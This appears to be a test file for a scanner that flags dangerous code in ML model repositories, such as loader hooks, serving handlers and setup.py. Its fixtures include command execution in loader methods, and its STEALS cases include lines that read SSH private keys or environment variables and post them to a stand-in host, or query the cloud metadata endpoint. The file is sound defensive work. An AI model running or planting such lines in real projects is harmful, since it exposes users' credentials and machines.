"""Functions of a source that loaders and servers call, without anybody's asking for them by name."""

import pytest

from tests.builders.models import assert_blocked, blocking, weighed
from weighbridge.policy.verdict import EvalOutcome

HEAD = "import os, subprocess, requests\nimport torch.nn as nn\nfrom transformers import PreTrainedModel\n"


def source(kind: str, method: str, body: str = "os.system('id')", more: str = "") -> bytes:
    return f"{HEAD}class X{kind}:\n    {more}\n    def {method}:\n        {body}\n".encode()


LOADED = {
    "a model's": ("modeling_x.py", source("(PreTrainedModel)", "__init__(self, config)")),
    "a module's": ("modeling_x.py", source("(nn.Module)", "__init__(self)")),
    "made from": ("modeling_x.py", source("(PreTrainedModel)", "from_pretrained(cls, *a)", more="@classmethod\n")),
    "of a class that derives here": (
        "modeling_x.py",
        source("(PreTrainedModel)", "f(self)", "pass")
        + b"class Y(X):\n    def __init__(self):\n        os.system('id')\n",
    ),
    "through a function": (
        "modeling_x.py",
        source("(nn.Module)", "__init__(self)", "helper()") + b"def helper():\n    os.system('id')\n",
    ),
    "an endpoint's": (
        "handler.py",
        source("", "__init__(self, path='')").replace(b"class X", b"class EndpointHandler"),
    ),
    "TorchServe's": ("h.py", source("(BaseHandler)", "initialize(self, ctx)")),
    "Triton's": ("1/model.py", source("", "initialize(self, a)").replace(b"class X", b"class TritonPythonModel")),
    "MLflow's": ("code/m.py", source("(mlflow.pyfunc.PythonModel)", "load_context(self, c)")),
    "diffusers'": ("pipeline.py", source("(DiffusionPipeline)", "__init__(self)")),
    "of a data set": ("d.py", source("(datasets.GeneratorBasedBuilder)", "_split_generators(self, dl)")),
    "torch.hub's": ("hubconf.py", b"import os\ndef net(pretrained=False):\n    os.system('id')\n"),
    "SageMaker's": ("code/inference.py", b"import os\ndef model_fn(d):\n    os.system('id')\n"),
    "an installer's": ("setup.py", source("(install)", "run(self)")),
}


@pytest.mark.parametrize(("name", "data"), LOADED.values(), ids=LOADED)
def test_what_loading_calls_runs_a_program(name, data):
    """Nobody but the loader calls it, and it always does."""
    found = assert_blocked(weighed(data, name), "os.system")
    assert (found.threat.code, "when the model is loaded" in found.message) == ("PY-401", True)


@pytest.mark.parametrize(
    "method", ["forward(self, x)", "__call__(self, x)", "predict(self, c, x)", "handle(self, d, c)"]
)
def test_what_using_calls_runs_a_program(method):
    """Every answer of the model passes through it."""
    data = source("(nn.Module)", method, "return subprocess.check_output(x, shell=True)")
    assert assert_blocked(weighed(data, "modeling_x.py")).threat.code == "PY-413"


STEALS = {
    "keys": "k = open(os.path.expanduser('~/.ssh/id_rsa')).read(); requests.post('https://h.invalid', data=k)",
    "the environment": "requests.post('https://h.invalid', json=dict(os.environ))",
    "a cloud's own address": "requests.get('http://169.254.169.254/latest/meta-data/')",
}


@pytest.mark.parametrize("body", STEALS.values(), ids=STEALS)
def test_function_that_sends_secrets(body):
    """Whoever calls it."""
    assert assert_blocked(weighed(source("", "f(self)", body), "util.py")).threat.code == "PY-407"


HONEST = {
    "a sound is converted": source("(nn.Module)", "forward(self, x)", "subprocess.run(['ffmpeg', '-i', x, 'out.wav'])"),
    "the machine is asked": source("(nn.Module)", "__init__(self)", "subprocess.run(['nvidia-smi', '-L'])"),
    "a tool of the class, not called": source("(nn.Module)", "export(self, x)", "subprocess.run(['dot', x])"),
    "a class that no loader makes": source("", "__init__(self)", "os.system('gcc -o k k.c')"),
    "a picture is fetched": source("(BaseHandler)", "preprocess(self, d)", "return requests.get(d['url']).content"),
    "a key of one's own": source("", "f(self)", "requests.get('https://h.invalid', auth=os.environ['TOKEN'])"),
}


@pytest.mark.parametrize("data", HONEST.values(), ids=HONEST)
def test_honest_source_passes(data):
    """Converters, questions, tools, downloads."""
    verdict = weighed(data, "modeling_x.py")
    assert verdict.eval_outcome is EvalOutcome.ALLOWED, blocking(verdict)
